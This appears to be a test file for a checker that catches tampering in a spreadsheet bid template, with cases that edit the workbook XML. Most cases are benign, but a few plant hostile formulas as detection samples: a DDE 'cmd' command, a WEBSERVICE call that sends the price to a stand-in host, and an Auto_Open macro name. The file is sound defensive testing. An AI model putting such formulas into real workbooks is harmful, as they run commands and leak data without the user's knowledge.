import { expect } from "vitest";
import { shiftRows } from "../../../../support/shift-rows.js";
import { inlineText, type Tampered } from "../../../../support/tamper.js";
import type { Case } from "../run.js";

const value = (text: string | number) => (inside: string) =>
  inside.replace(/<v>.*<\/v>/, `<v>${text}</v>`);

/** Puts a further cell at the end of a line, which it makes where the sheet has none. */
export function put(
  book: Tampered,
  sheet: string,
  address: string,
  inside: string,
  type = "",
): Tampered {
  const row = Number(/\d+/.exec(address)?.[0]);
  const cell = `<c r="${address}"${type === "" ? "" : ` t="${type}"`}>${inside}</c>`;
  return book.sheet(sheet, (xml) => {
    const line = new RegExp(`(<row r="${row}"[^>]*>.*?)</row>`);
    if (line.test(xml)) return xml.replace(line, `$1${cell}</row>`);
    const next = [...xml.matchAll(/<row r="(\d+)"/g)].find(([, r]) => Number(r) > row);
    const made = `<row r="${row}">${cell}</row>`;
    if (next === undefined) return xml.replace("</sheetData>", `${made}</sheetData>`);
    return xml.slice(0, next.index) + made + xml.slice(next.index);
  });
}

const text = (book: Tampered, sheet: string, address: string, words: string) =>
  put(book, sheet, address, inlineText(words), "inlineStr");

/** What stands in cells, of the template's and around them. */
export const cellCases: readonly Case[] = [
  {
    what: "the price typed over its formula",
    edit: (book) => book.cell("price", () => "<v>3500</v>"),
    verdict: "found",
    figure: true,
    finds: { code: "formula-overwritten", name: "price" },
  },
  {
    what: "a factor changed within a formula",
    edit: (book) => book.formula("labor", (formula) => formula.replace("75", "7.5")),
    verdict: "found",
    figure: true,
    finds: { code: "formula-edited", name: "labor" },
  },
  {
    what: "a stored result, the formula left",
    edit: (book) => book.cell("price", value(3500)),
    verdict: "found",
    figure: true,
    finds: { code: "value-stale", name: "price" },
  },
  {
    what: "a sentence's stored result, the formula left",
    edit: (book) => book.cell("letter_sum", value("Price: $3,500")),
    verdict: "found",
    figure: true,
    finds: { code: "value-stale", name: "letter_sum" },
  },
  {
    what: "the stored price on the first sheet",
    edit: (book) => book.at("Summary", "D10", value(3500)),
    verdict: "found",
    figure: true,
    finds: { code: "value-stale", where: "Summary!D10" },
  },
  {
    what: "the stored word on whether the bid stands, on the first sheet",
    edit: (book) => book.at("Summary", "A4", value("NOT READY.")),
    verdict: "found",
    figure: true,
    finds: { code: "value-stale", where: "Summary!A4" },
  },
  {
    what: "a stored value on sheet Names",
    edit: (book) =>
      book.sheet("Names", (xml) =>
        xml.replace(/(<f>price<\/f><v>)[^<]*/, (_, head) => `${head}3500`),
      ),
    verdict: "found",
    figure: true,
    finds: { code: "value-stale", where: expect.stringMatching(/^Names!C\d+$/) },
  },
  {
    what: "the stored message of a check",
    edit: (book) => book.cell("strong_enough_message", value("The wind is weak")),
    verdict: "found",
    finds: { code: "value-stale", name: "strong_enough_message" },
  },
  {
    what: "the words beside a figure",
    edit: (book) => book.at("Letter", "A5", () => inlineText("Price with tax"), "inlineStr"),
    verdict: "found",
    finds: { code: "text-changed", where: "Letter!A5" },
  },
  {
    what: "a caution reworded",
    edit: (book) => book.at("Letter", "A13", () => inlineText("Dig where you like."), "inlineStr"),
    verdict: "found",
    finds: { code: "text-changed", where: "Letter!A13" },
  },
  {
    what: "a blank line put in, and a discount typed on the customer's page",
    edit: (book) => text(shiftRows(book, "Letter", 9, 1), "Letter", "A9", "Discount: $500"),
    verdict: "found",
    figure: true,
    finds: { code: "text-changed", where: "Letter!A9" },
  },
  {
    what: "a discount typed beside the price on the customer's page",
    edit: (book) => text(book, "Letter", "D5", "less $500"),
    verdict: "found",
    figure: true,
    finds: { code: "text-changed", where: "Letter!D5" },
  },
  {
    what: "a blank line put in, and a label below it changed",
    edit: (book) =>
      shiftRows(book, "Price", 19, 1).at(
        "Price",
        "A21",
        () => inlineText("Margin, 5%"),
        "inlineStr",
      ),
    verdict: "found",
    finds: { code: "text-changed", where: "Price!A21" },
  },
  {
    what: "a blank line put in above the figures of the first sheet, and one typed over",
    edit: (book) =>
      shiftRows(book, "Summary", 10, 1).at("Summary", "D11", () => "<v>3500</v>", "n"),
    verdict: "found",
    figure: true,
    finds: { code: "formula-overwritten", where: "Summary!D11" },
  },
  {
    what: "the line of a caution taken out",
    edit: (book) => shiftRows(book, "Letter", 14, -1),
    verdict: "found",
    finds: { code: "text-changed", where: "Letter!A14" },
  },
  {
    what: "a blank line put in between two blocks",
    edit: (book) => shiftRows(book, "Letter", 11, 1),
    verdict: "silent",
    harmless: true,
  },
  {
    what: "a blank line put in on the first sheet",
    edit: (book) => shiftRows(book, "Summary", 11, 1),
    verdict: "silent",
    harmless: true,
  },
  {
    what: "a blank line taken out between two blocks",
    edit: (book) => shiftRows(book, "Price", 18, -1),
    verdict: "silent",
    harmless: true,
  },
  {
    what: "a note beside the figures of an inner sheet",
    edit: (book) => text(book, "Price", "Q4", "ask for a better price of boards"),
    verdict: "note",
    harmless: true,
    finds: { code: "note", where: "Price!Q4" },
  },
  {
    what: "a note on the customer's page, beyond what prints",
    edit: (book) => text(book, "Letter", "N5", "call on Monday"),
    verdict: "note",
    harmless: true,
    finds: { code: "note", where: "Letter!N5" },
  },
  {
    what: "an office's own sum in a free cell",
    edit: (book) => put(book, "Price", "Q5", "<f>price*1.07</f><v>4373.1</v>"),
    verdict: "note",
    harmless: true,
    finds: { code: "note", where: "Price!Q5" },
  },
  {
    what: "dynamic data exchange in a free cell",
    edit: (book) => put(book, "Price", "Q5", "<f>cmd|'/c calc'!A1</f><v>0</v>"),
    verdict: "found",
    finds: { code: "outside", where: "Price!Q5" },
  },
  {
    what: "a web service in a free cell",
    edit: (book) =>
      put(book, "Price", "Q5", '<f>_xlfn.WEBSERVICE("http://x.invalid/"&amp;price)</f><v>0</v>'),
    verdict: "found",
    finds: { code: "outside", where: "Price!Q5" },
  },
  {
    what: "a cell of another workbook in a free cell",
    edit: (book) => put(book, "Price", "Q5", "<f>[1]Sheet1!A1</f><v>0</v>"),
    verdict: "found",
    finds: { code: "outside", where: "Price!Q5" },
  },
  {
    what: "a link outside in place of a sheet's link",
    edit: (book) =>
      book.at("Summary", "A26", (inside) => inside.replace("#'Site'!A1", "http://x.invalid")),
    verdict: "found",
    finds: { code: "formula-edited", where: "Summary!A26" },
  },
  {
    what: "a name that runs a macro as the workbook opens",
    edit: (book) =>
      book.change("xl/workbook.xml", (xml) =>
        xml.replace(
          "<definedNames>",
          '<definedNames><definedName name="_xlnm.Auto_Open">Price!$A$1</definedName>',
        ),
      ),
    verdict: "found",
    finds: { code: "name-extra", where: "name _xlnm.Auto_Open" },
  },
  {
    what: "a sheet added",
    edit: (book) => {
      book.put("xl/worksheets/sheet99.xml", book.text("xl/worksheets/sheet8.xml"));
      book.change("xl/workbook.xml", (xml) =>
        xml.replace("</sheets>", '<sheet sheetId="99" name="Extra" r:id="rId99"/></sheets>'),
      );
      book.change("xl/_rels/workbook.xml.rels", (xml) =>
        xml.replace(
          "</Relationships>",
          '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet99.xml"/></Relationships>',
        ),
      );
      book.change("[Content_Types].xml", (xml) =>
        xml.replace(
          "</Types>",
          '<Override PartName="/xl/worksheets/sheet99.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        ),
      );
    },
    verdict: "found",
    finds: { code: "sheet-extra", where: "sheet Extra" },
  },
];
